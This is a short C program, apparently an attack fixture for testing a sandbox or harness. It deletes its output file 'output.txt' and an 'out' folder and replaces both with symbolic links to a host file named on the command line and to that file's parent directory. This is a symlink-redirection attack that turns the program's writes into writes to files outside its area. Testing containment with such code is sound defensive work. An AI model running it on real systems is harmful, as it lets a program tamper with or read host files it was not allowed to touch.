/* Makes its output file, and the folder in front of another, a link to a file of the host. */
#include "attack.h"
int main(int argc, char **argv) {
    char folder[512];
    if (argc < 2) return 2;
    unlink("output.txt");
    if (symlink(argv[1], "output.txt")) return 1;
    snprintf(folder, sizeof folder, "%s", argv[1]);
    char *slash = strrchr(folder, '/');
    if (slash) *slash = 0;
    rmdir("out");
    if (symlink(folder, "out")) errno = 0;
    return 0;
}
